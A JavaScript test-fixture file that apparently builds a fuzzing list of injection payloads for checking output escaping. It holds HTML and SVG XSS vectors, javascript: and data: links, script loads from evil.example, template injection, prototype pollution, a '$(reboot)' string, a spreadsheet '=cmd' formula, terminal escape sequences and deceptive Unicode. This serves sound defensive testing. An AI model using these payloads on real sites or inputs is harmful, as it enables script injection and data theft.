// Text that acts in a browser when it is not escaped: our own list, one line
// each. A payload that runs sets window.owned or asks for evil.example.
const run = 'window.owned=1';
const far = '//evil.example/x';

const events = ['onload', 'onerror', 'onclick', 'onmouseover', 'onmouseenter', 'onfocus', 'onblur', 'onanimationstart', 'onanimationend', 'ontransitionend',
  'ontoggle', 'onpointerenter', 'onpointerover', 'onwheel', 'onscroll', 'oncopy', 'oncut', 'onpaste', 'onbeforeinput', 'onresize', 'onhashchange', 'onpageshow',
  'onbegin', 'onend', 'onrepeat', 'oncanplay', 'onloadstart', 'oncuechange', 'onsearch', 'oncontextmenu', 'onauxclick', 'onbeforetoggle', 'oncontentvisibilityautostatechange'];

const elements = ['img src=x', 'svg', 'body', 'iframe', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'select autofocus', 'textarea autofocus',
  'marquee', 'object data=x', 'embed src=x', 'div style=animation:x', 'a href=#', 'button autofocus', 'dialog open', 'style', 'link rel=stylesheet href=x', 'track src=x'];

const html = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script src=${far}></script>`, `<script type=module>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`, `<script\t>${run}</script>`, `<<script>${run}//<</script>`, `<svg/onload=${run}>`, `<img src=x onerror=${run}>`, `<img src="${far}">`,
  `<img srcset="${far} 2x">`, `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>parent.owned=1</script>">`, `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`, `<base href="${far}">`, `<meta http-equiv=refresh content="0;url=${far}">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<link rel=stylesheet href=${far}>`, `<link rel=preload as=image href=${far}>`, `<link rel=dns-prefetch href=${far}>`, `<form action=${far}><input type=submit autofocus>`,
  `<form id=x></form><button form=x formaction=javascript:${run}>`, `<a href=javascript:${run}>x</a>`, `<a href="data:text/html,<script>opener.owned=1</script>">x</a>`,
  `<a ping=${far} href=#>x</a>`, `<video poster=${far}>`, `<audio autoplay src=${far}>`, `<table background=${far}>`, `<body background=${far}>`, `<input type=image src=${far}>`,
  `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<math href="javascript:${run}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<isindex type=image src=1 onerror=${run}>`, `<keygen autofocus onfocus=${run}>`, `<x onclick=${run} tabindex=1 id=x>#x`,
  `<plaintext>`, `<xmp>`, `<listing>`, `<textarea>`, `<title>`, `<select><option>`, `<!--`, `-->`, `--!>`, `<!-->`, `<!--><script>${run}</script>`, `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?>`, `<!DOCTYPE x [<!ENTITY y "z">]>`, `<!ENTITY % p SYSTEM "${far}">`, `</html>`, `</body><body onload=${run}>`, `<frameset onload=${run}>`,
  `<applet code=x>`, `<bgsound src=${far}>`, `<layer src=${far}>`, `<portal src=${far}>`, `<slot onslotchange=${run}>`, `<dialog open oncancel=${run}>`,
  `<div popover id=p ontoggle=${run}>`, `<button popovertarget=live commandfor=live command=--x>`, `<a id=data>`, `<form name=body>`, `<img name=querySelector>`, `<a id=start name=start>`,
];

const closing = ['title', 'style', 'script', 'textarea', 'xmp', 'noscript', 'template', 'svg', 'desc', 'text', 'code', 'pre', 'li', 'ol', 'td', 'table', 'details', 'summary', 'section', 'main',
  'option', 'select', 'button', 'nav', 'figure', 'figcaption', 'h1', 'dd', 'sup', 'div'].map((t) => `</${t}><script>${run}</script>`);

const attributes = [
  `" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}" x="`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, '` onmouseover=' + run,
  `" style="background:url(${far})`, `" class="filtered`, `" id="claims`, `" href="javascript:${run}`, `" data-s="0`, `" hidden="`, `" aria-hidden="true`, `" tabindex="-1`, `"/><script>${run}</script>`,
  `&quot; onclick=&quot;${run}`, `&#34; onclick=&#34;${run}`, `&#x22;><script>${run}</script>`, `\\" onclick=\\"${run}`, `\\'; ${run}; //`, `" srcdoc="<script>${run}</script>`,
  `x" d="M0 0" onclick="${run}`, `0" fill="url(${far})`, `" xlink:href="javascript:${run}`, `" contenteditable="`, `" draggable="true" ondragstart="${run}`,
];

const svg = [
  `<svg><script>${run}</script></svg>`, `<svg><script href=${far} /></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set attributeName=onload to=${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><image href=${far}></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.owned=1</script>"></foreignObject></svg>`, `<svg><style>@import '${far}';</style></svg>`,
  `<svg><filter id=hatch><feImage href=${far} /></filter></svg>`, `<svg><pattern id=hatch><image href=${far} /></pattern></svg>`, `</text></svg><img src=x onerror=${run}>`,
  `</title></svg><script>${run}</script>`, `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`, `<svg><discard onbegin=${run}>`, `<svg><animateTransform onbegin=${run}>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /><a id=x><text>x</text></a>`, `<svg onload=${run}//`, `<svg><title><img src=x onerror=${run}></title></svg>`, `<svg><handler>${run}</handler></svg>`,
];

const links = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `\x01javascript:${run}`, `javascript&colon;${run}`, `javascript:/*--></title></style></textarea></script><svg onload=${run}>*/`, `data:text/html,<script>${run}</script>`,
  `vbscript:msgbox(1)`, `view-source:javascript:${run}`, `blob:null/1`, `file:///etc/passwd`, `//evil.example`, `https://evil.example/ping`, `http://evil.example@127.0.0.1/`, `\\\\evil.example\\share`, `mailto:x@evil.example?body=y`,
  `tel:+000`, `ftp://evil.example/x`, `[x](javascript:${run})`, `![x](https://evil.example/x.png)`, `<https://evil.example>`, `[x]: https://evil.example`, `[[evil.example]]`, `www.evil.example`, `#c1`, `#"><script>${run}</script>`,
];

const markdown = ['**bold**', '__bold__', '`code`', '```js', '~~~', '# heading', '> quote', '- item', '1. item', '| a | b |', '|---|---|', '---', '***', '[^1]', '[^1]: note', '$x$', '$$y$$', ':smile:', '@someone', '#1',
  '<details><summary>x</summary>', '\\*', '&nbsp;', '&copy;', '&#0;', '&#x202e;', '&lt;script&gt;', '&amp;lt;script&amp;gt;', `<b onclick=${run}>b</b>`, '==mark=='];

const terminal = ['\x1b[2J\x1b[H', '\x1b[31mred\x1b[0m', '\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\', '\x1b]0;title\x07', '\x1b]52;c;ZXZpbA==\x07', '\x1bP$q"p\x1b\\', '\x1b[6n', '\x1b[?1049h', '\x1bc', '\x1b[1;1Hx',
  'a\rOWNED', 'a\b\b\bX', '\x9b31m', '\u0090x\u009c', '\x07', '\x0e\x0f', '\x7f', '\x00', '\v\f', '\x1b(0', '\x1b#8', '\x1b_G\x1b\\', '\x1b^x\x1b\\', '\x1b[200~x\x1b[201~', '\x85'];

const unicode = ['\u202egnp.exe', '\u202d\u202c', '\u2066x\u2069', '\u2067\u2068', '\u200b\u200c\u200d\ufeff', '\u2028x', '\u2029x', '\u00ad', '\u061c', '\ufe0f\ufe0e', '\ue000\uf8ff', '\u3164\uffa0', '\u115f\u1160', '\u{e0041}\u{e0042}',
  '\u{1d173}', 'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(6), 'é漢字🙂👩‍👩‍👧‍👦', '\uff1cscript\uff1e' + run, '\u02bb\u2039script\u203a', '\ufb01\u1e9e\u0130', '\u0000<script>' + run + '</script>', '\ud7ff\ue000', '\u180e\u2060\u2061', '\u034f\u17b4\u17b5',
  '＂ onclick=＂' + run, '\u212aelvin \u017fcript', '\ufdfa'.repeat(20), '\u0e33'.repeat(20), 'A'.repeat(3000), '<'.repeat(400)];

const data = [`","x":"</script><script>${run}</script>`, `\\u003c/script\\u003e`, `]}</script>`, `{"__proto__":{"owned":1}}`, `__proto__`, `constructor`, `toString`, `{{7*7}}`, '${7*7}', `#{7*7}`, `<%= 7*7 %>`, `{{constructor.constructor('${run}')()}}`,
  `%s%d%n%!(EXTRA)`, `{{.}}`, `{{template "x"}}`, `$(reboot)`, `; ${run};//`, `'-${run}-'`, `*/${run}/*`, `\\x3cscript\\x3e`, `//# sourceMappingURL=${far}`, `<!--#include file="x"-->`, `=cmd|'/c calc'!A1`, `@SUM(1+1)`, `+1-1`];

const css = [`</style><style>*{background:url(${far})}</style>`, `*{background:url(${far})}`, `@import url(${far});`, `}body{display:none}`, `expression(${run})`, `-moz-binding:url(${far})`, `<style>.verdict{display:none}</style>`, `<style>@font-face{font-family:x;src:url(${far})}</style>`, `/*`, `*/`];

export const payloads = [...html, ...closing, ...attributes, ...svg, ...links, ...markdown, ...terminal, ...unicode, ...data, ...css,
  ...events.map((e, i) => `<${elements[i % elements.length]} ${e}=${run}>`), ...elements.map((e) => `"><${e} onload=${run} onerror=${run}>`)];
